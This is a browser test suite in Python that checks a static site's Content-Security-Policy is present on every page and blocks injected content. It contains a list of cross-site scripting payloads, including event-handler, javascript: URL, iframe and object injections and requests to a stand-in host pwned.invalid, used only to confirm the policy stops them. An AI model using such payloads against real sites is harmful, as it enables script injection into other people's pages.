"""The Content-Security-Policy: on every page, before any script, and strong enough to stop what slips in."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import ROOT
from tests.security.tab import Watched

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("hostile")]

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def test_every_page_has_a_policy_before_its_first_script(hostile_site: Path) -> None:
    files = sorted(hostile_site.rglob("*.html"))
    assert len(files) > 100
    for file in files:
        text = file.read_text("utf-8")
        policy = POLICY.search(text)
        assert policy, file
        assert not re.search(r"<script|<link|<body", text[: policy.start()]), file
        rules = dict(rule.strip().partition(" ")[::2] for rule in policy.group(1).split(";"))
        assert rules["default-src"] == "'none'", file
        assert rules.get("script-src", "'none'") in ("'self'", "'none'"), file
        for name, allowed in rules.items():
            assert not re.search(r"unsafe|https?:|\*", allowed), (file, name)
        assert rules["base-uri"] == "'none'" and rules["form-action"] in ("'self'", "'none'"), file
        assert "object-src" not in rules, file


# What an attacker would try who found a hole in the sanitizer.
INJECTIONS = {
    "inline script": "add('script').textContent = 'pwned()'",
    "foreign script": "add('script').src = 'https://pwned.invalid/x.js'",
    "data script": "add('script').src = 'data:,pwned()'",
    "blob script": "add('script').src = URL.createObjectURL(new Blob(['pwned()']))",
    "handler": "write('<img src=x onerror=pwned()>')",
    "script address": "write('<a id=a href=javascript:pwned()>x</a>'); document.querySelector('#a').click()",
    "frame": "write('<iframe srcdoc=\"<script>pwned()</script>\"></iframe>')",
    "object": "write('<object data=\"data:text/html,<script>pwned()</script>\"></object>')",
    "SVG": "write('<svg onload=pwned()></svg>')",
    "style": "write('<p style=\"background:url(https://pwned.invalid/x)\">x')",
    "image": "new Image().src = 'https://pwned.invalid/x.png'",
    "request": "fetch('https://pwned.invalid/').catch(() => 0)",
    "base": "add('base').href = 'https://pwned.invalid/'",
    "form": "write('<form id=f action=//pwned.invalid/></form>'); document.querySelector('#f').submit()",
}
# A script's address or text is set before it enters the page, as a parser would have it.
HELP = """const write = (html) => document.body.insertAdjacentHTML('beforeend', html);
  const add = (name) => {
    const made = document.createElement(name);
    queueMicrotask(() => document.head.append(made));
    return made;
  };"""


def inject(tab: Watched, name: str, seen: list[str]) -> None:
    """Does it, and waits until the tab has ``seen`` something of it, or for long enough to say it has not."""
    tab.page.evaluate(f"() => {{ {HELP} {INJECTIONS[name]} }}")
    for _ in range(200):
        tab.page.wait_for_timeout(30)
        if seen:
            return


@pytest.mark.parametrize("path", ["topic-0/entry-0/", "practice/", "404.html", "print/topic-0.html"])
def test_what_slips_in_is_stopped(guarded: Watched, path: str) -> None:
    guarded.page.goto(path)
    assert guarded.forbade == [], "our own page keeps to its policy"
    for name in INJECTIONS:
        guarded.forbade.clear()
        inject(guarded, name, guarded.forbade)
        assert guarded.forbade, name
    assert guarded.ran == []


OURS = ["", "topic-0/", "topic-0/entry-0/", "glossary/", "reading-list/", "practice/", "print/topic-0.html"]


@pytest.mark.parametrize("path", OURS)
def test_our_pages_break_none_of_their_own_rules(guarded: Watched, path: str) -> None:
    said: list[str] = []
    guarded.page.on("console", lambda message: said.append(message.text))
    guarded.page.on("pageerror", lambda error: said.append(str(error)))
    guarded.page.goto(path)
    guarded.page.wait_for_load_state("networkidle")
    assert said + guarded.ran + guarded.asked + guarded.forbade == []


def test_without_the_policy_the_same_injections_would_run(browser: Any, hostile_url: str) -> None:
    tab = Watched(browser, hostile_url, policy=False)
    tab.page.goto("404.html")
    for name in ("inline script", "data script", "handler"):
        inject(tab, name, tab.ran)
        assert tab.ran, name
        tab.ran.clear()
    tab.context.close()


def test_no_script_of_ours_makes_code_of_text() -> None:
    for file in sorted((ROOT / "mianjing" / "theme").rglob("*.js")):
        text = file.read_text("utf-8")
        assert not re.search(r"\beval\(|new Function\(|document\.write|insertAdjacentHTML", text), file
